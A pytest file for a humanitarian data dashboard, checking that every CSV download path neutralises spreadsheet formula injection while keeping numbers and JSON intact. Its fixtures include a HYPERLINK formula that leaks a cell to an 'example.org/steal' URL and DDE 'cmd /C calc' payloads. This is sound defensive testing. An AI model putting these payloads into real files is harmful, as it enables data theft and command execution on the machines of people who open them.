"""CSV/spreadsheet formula injection: every CSV the app writes neutralises text cells that start with
=, +, -, @, tab or carriage return (a leading single quote, as OWASP recommends), in every download
path: the exports function itself, whole-table downloads (/api/<table>.csv, also with hxl=1, as
linked from /data), chart views (/api/<group>/<view>.csv), the Dash download behind each chart's
"Download CSV" button (through the callback endpoint and in Chromium). Numbers stay numbers,
negative ones included; JSON is unchanged.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from tests.fixtures.dashboard import dashboard_synth as synth  # noqa: E402

from dashboard.web import exports  # noqa: E402

HYPERLINK = '=HYPERLINK("http://example.org/steal?x="&A1,"click")'
DDE = "-2+3+cmd|' /C calc'!A0"
FORMULAS = {
    "Donor A": HYPERLINK,
    "Donor B": "+SUM(1,1)",
    "Donor C": DDE,
    "Donor D": "@SUM(A1:A2)",
    "Donor E": "\t=1+1",
    "Donor F": "\r=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def formula_tables() -> dict[str, pd.DataFrame]:
    tables = synth.all_tables()
    donors = tables["fts_donors"].copy()
    donors["donor_name"] = donors["donor_name"].replace(FORMULAS)
    tables["fts_donors"] = donors
    clusters = tables["fts_clusters"].copy()
    clusters["cluster_name"] = clusters["cluster_name"].replace({"Health": "=1+1", "Education": "@x"})
    tables["fts_clusters"] = clusters
    incidents = tables["mmp_incidents"].copy()
    ids = incidents["incident_id"]
    incidents["cause_of_death"] = incidents["cause_of_death"].astype("object")
    incidents.loc[ids == "i1", "cause_of_death"] = "=cmd|' /C calc'!A0"
    incidents.loc[ids == "i2", "cause_of_death"] = "+1"
    incidents["cause_of_death"] = incidents["cause_of_death"].astype("string")
    incidents.loc[ids == "i3", "missing"] = -13  # a real negative number (a source correction)
    incidents["url"] = pd.array(["-", "=x", "@y", "\thttp://t", "ok"], dtype="string")
    tables["mmp_incidents"] = incidents
    return tables


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    root = tmp_path_factory.mktemp("formulas")
    (root / "snapshot").mkdir()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HUMDASH_SNAPSHOT_DIR", str(root / "snapshot"))
        synth.write_tables(root / "data", formula_tables())
        from dashboard.app import create_app

        app = create_app(root / "data", check_every=3600)
        test_client = app.server.test_client()
        assert test_client.get("/").status_code == 200
        yield test_client


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_safe(text: str) -> list[list[str]]:
    """No cell a spreadsheet would run: every cell starting with a dangerous character is a number."""
    rows = cells(text)
    for row in rows:
        for cell in row:
            assert not (cell.startswith(DANGEROUS) and not is_number(cell)), (cell, row)
    return rows


# ------------------------------------------------------------------------------------------ the function


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-", "+", "@"])
def test_neutralise_quotes_formula_text(value):
    out = exports.neutralise(value)
    assert out.startswith("'") and out[1:].replace("\n", "\r") in (value, value.replace("\r\n", "\r"))


@pytest.mark.parametrize("value", ["plain", "", " =1", "1-2", "a=b", "#tag", "'quoted", "Côte d'Ivoire"])
def test_neutralise_leaves_harmless_text(value):
    assert exports.neutralise(value) == value


@pytest.mark.parametrize("value", [-13, -1.5, 0, 7, None, pd.NA, float("nan"), True])
def test_neutralise_leaves_numbers_and_blanks(value):
    out = exports.neutralise(value)
    assert out is value


def test_to_csv_neutralises_text_and_keeps_numbers():
    frame = pd.DataFrame({
        "name": pd.array(list(FORMULAS.values()) + ["ok", None], dtype="string"),
        "mixed": pd.Series(["=a", -3, 2.5, None, "-x", "b", "c", "d"], dtype="object"),
        "missing": pd.array([-13, -1, 0, 1, 2, 3, 4, None], dtype="Int64"),
        "share": [-0.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
        "date": pd.to_datetime(["2019-01-01"] * 8),
    })
    text = exports.to_csv(frame, hxl=True)
    rows = assert_safe(text)
    assert rows[0] == ["name", "mixed", "missing", "share", "date"]
    body = rows[2:]
    assert body[0][0] == "'" + HYPERLINK and body[2][0] == "'" + DDE
    assert body[4][0] == "'\t=1+1" and body[5][0] == "'\n=1+1"  # CR kept as a line break, inside quotes
    assert [r[2] for r in body] == ["-13", "-1", "0", "1", "2", "3", "4", ""]
    assert body[0][3] == "-0.5" and body[1][1] == "-3" and body[0][1] == "'=a" and body[4][1] == "'-x"
    assert frame["name"].iloc[0] == HYPERLINK  # the frame itself is untouched


def test_a_carriage_return_cannot_start_a_new_row():
    text = exports.to_csv(pd.DataFrame({"a": ["x\r=1+1", "\r\n@y"], "b": [1, 2]}))
    rows = assert_safe(text)
    assert rows == [["a", "b"], ["x\n=1+1", "1"], ["'\n@y", "2"]]


# ------------------------------------------------------------------------------------------ every path


@pytest.mark.parametrize("url", ["/api/fts_donors.csv", "/api/fts_donors.csv?hxl=1", "/api/fts_donors.csv?plan_id=929",
                                 "/api/fts_clusters.csv", "/api/mmp_incidents.csv", "/api/mmp_incidents.csv?hxl=1"])
def test_whole_table_downloads_are_neutralised(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = assert_safe(response.get_data(as_text=True))
    flat = [c for row in rows for c in row]
    if "fts_donors" in url:
        assert "'" + HYPERLINK in flat and "'" + DDE in flat and "'@SUM(A1:A2)" in flat
    if "mmp_incidents" in url:
        header = rows[0]
        missing = [row[header.index("missing")] for row in rows[2 if "hxl" in url else 1:]]
        assert "-13" in missing  # a number, not "'-13"
        assert "'=cmd|' /C calc'!A0" in flat and "'-" in flat and "'\thttp://t" in flat


@pytest.mark.parametrize("url", ["/api/fts/donors.csv?plan_id=929", "/api/fts/clusters.csv?plan_id=929",
                                 "/api/mmp/by-cause.csv?year=2019", "/api/mmp/by-cause.csv?year=2019&hxl=1"])
def test_chart_view_downloads_are_neutralised(client, url):
    response = client.get(url)
    assert response.status_code == 200
    rows = assert_safe(response.get_data(as_text=True))
    flat = [c for row in rows for c in row]
    assert any(c.startswith("'") for c in flat), flat[:40]


def _download(client, output: str, state: dict) -> str:
    deps = client.get("/_dash-dependencies").get_json()
    dep = next(d for d in deps if d["output"] == f"{output}.data")
    payload = {"output": dep["output"], "outputs": {"id": output, "property": "data"},
               "inputs": [{"id": i["id"], "property": i["property"], "value": 1} for i in dep["inputs"]],
               "state": [{"id": s["id"], "property": s["property"], "value": state.get(f"{s['id']}.{s['property']}")}
                         for s in dep["state"]],
               "changedPropIds": [f"{dep['inputs'][0]['id']}.n_clicks"]}
    response = client.post("/_dash-update-component", json=payload)
    assert response.status_code == 200, response.data[:300]
    return response.get_json()["response"][output]["data"]["content"]


FUND = {"fund-hxl.value": [], "fund-country.value": "AFG", "fund-years.value": [], "fund-plan.value": 929,
        "fund-regional.value": [], "fund-cluster-type.value": "cluster"}
MIG = {"mig-hxl.value": ["hxl"], "mig-year.value": [2019], "mig-dates.start_date": None, "mig-dates.end_date": None,
       "mig-group.value": "", "mig-region.value": [], "mig-origin.value": [], "mig-cause.value": [],
       "mig-route.value": [], "mig-freq.value": "month"}


@pytest.mark.parametrize("output,state,api", [
    ("fund-donors-download", FUND, "/api/fts/donors.csv?plan_id=929"),
    ("fund-clusters-download", FUND, "/api/fts/clusters.csv?plan_id=929&cluster_type=cluster"),
    ("mig-cause-download", MIG, None),
])
def test_dash_chart_downloads_are_neutralised(client, output, state, api):
    content = _download(client, output, state)
    rows = assert_safe(content)
    assert any(c.startswith("'") for row in rows for c in row)
    if api:  # the same bytes as the API, as promised under each chart
        assert content == client.get(api).get_data(as_text=True)


def test_json_is_left_as_data(client):
    body = client.get("/api/fts_donors.json?plan_id=929").get_json()
    names = [row["donor_name"] for row in body["data"]]
    assert HYPERLINK in names and DDE in names
    incidents = client.get("/api/mmp_incidents.json").get_json()["data"]
    assert -13 in [row["missing"] for row in incidents]


@pytest.mark.browser
def test_download_button_in_the_browser_is_neutralised(chromium, tmp_path_factory):
    from conftest import start_server

    root = tmp_path_factory.mktemp("formulas-browser")
    (root / "snapshot").mkdir()
    synth.write_tables(root / "data", formula_tables())
    proc, base = start_server(["dashboard", "--data-dir", str(root / "data")],
                              env={"HUMDASH_SNAPSHOT_DIR": str(root / "snapshot")})
    page = chromium.new_page(accept_downloads=True)
    try:
        page.goto(base + "/funding?country=AFG&plan_id=929")
        page.wait_for_load_state("networkidle")
        with page.expect_download() as info:
            page.click("#fund-donors-csv")
        content = Path(info.value.path()).read_text(encoding="utf-8")
        rows = assert_safe(content)
        assert "'" + HYPERLINK in [c for row in rows for c in row]
        with page.expect_download() as info:  # a whole-table link, as on /data
            page.goto(base + "/data?table=fts_donors")
            page.wait_for_load_state("networkidle")
            page.click("a[href='/api/fts_donors.csv']")
        rows = assert_safe(Path(info.value.path()).read_text(encoding="utf-8"))
        assert "'" + DDE in [c for row in rows for c in row]
    finally:
        page.close()
        proc.terminate()
        proc.wait(10)


# ------------------------------------------------------------------------------------------ after a separator


SEPARATED = {  # cell -> what the CSV holds
    "Iraq;=cmd|' /C calc'!A0;": "Iraq;'=cmd|' /C calc'!A0;",
    "a,=1+1": "a,'=1+1",
    "b;+1": "b;'+1",
    "c;-2+3": "c;'-2+3",
    "d;@SUM(A1)": "d;'@SUM(A1)",
    "e;\t=1": "e;'\t=1",
    "=x;=y": "'=x;'=y",
    'g"q";=1': 'g"q";\'=1',
    "h\nline;=2": "h\nline;'=2",
}


@pytest.mark.parametrize("value", SEPARATED)
def test_text_after_a_separator_is_neutralised(value):
    assert exports.neutralise(value) == SEPARATED[value]
    frame = pd.DataFrame({"name": pd.array([value, "plain"], dtype="string"), "missing": [-13, 4],
                          "other": pd.Series([value, "x"], dtype="object")})
    text = exports.to_csv(frame)
    rows = cells(text)
    assert rows[1] == [SEPARATED[value], "-13", SEPARATED[value]] and rows[2] == ["plain", "4", "x"]
    assert pd.read_csv(io.StringIO(text))["missing"].tolist() == [-13, 4]
    # Excel in a Spanish locale reads the same bytes splitting on ";" (quotes count only at a piece's start)
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=";"):
        for cell in line:
            assert not (cell.startswith(DANGEROUS) and not is_number(cell)), (cell, text)


@pytest.mark.parametrize("value", ["Syria; Lebanon", "a, b", "i; =3", "1-2;3", "x;'=y", "Côte d'Ivoire, Abidjan"])
def test_harmless_separators_are_unchanged(value):
    frame = pd.DataFrame({"name": [value]})
    assert exports.neutralise(value) == value
    assert exports.to_csv(frame) == frame.to_csv(index=False, lineterminator="\n")


def test_the_reported_cell_in_a_semicolon_locale():
    """The tester's cell, in a row after another text cell: Excel in a ;-locale must not get a formula."""
    text = exports.to_csv(pd.DataFrame({"plan": ["HIRQ19"], "country": ["Iraq;=cmd|' /C calc'!A0;"], "n": [-13]}))
    line = text.splitlines()[1]
    assert line == "HIRQ19,Iraq;'=cmd|' /C calc'!A0;,-13"
    pieces = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert pieces == ["HIRQ19,Iraq", "'=cmd|' /C calc'!A0", ",-13"]
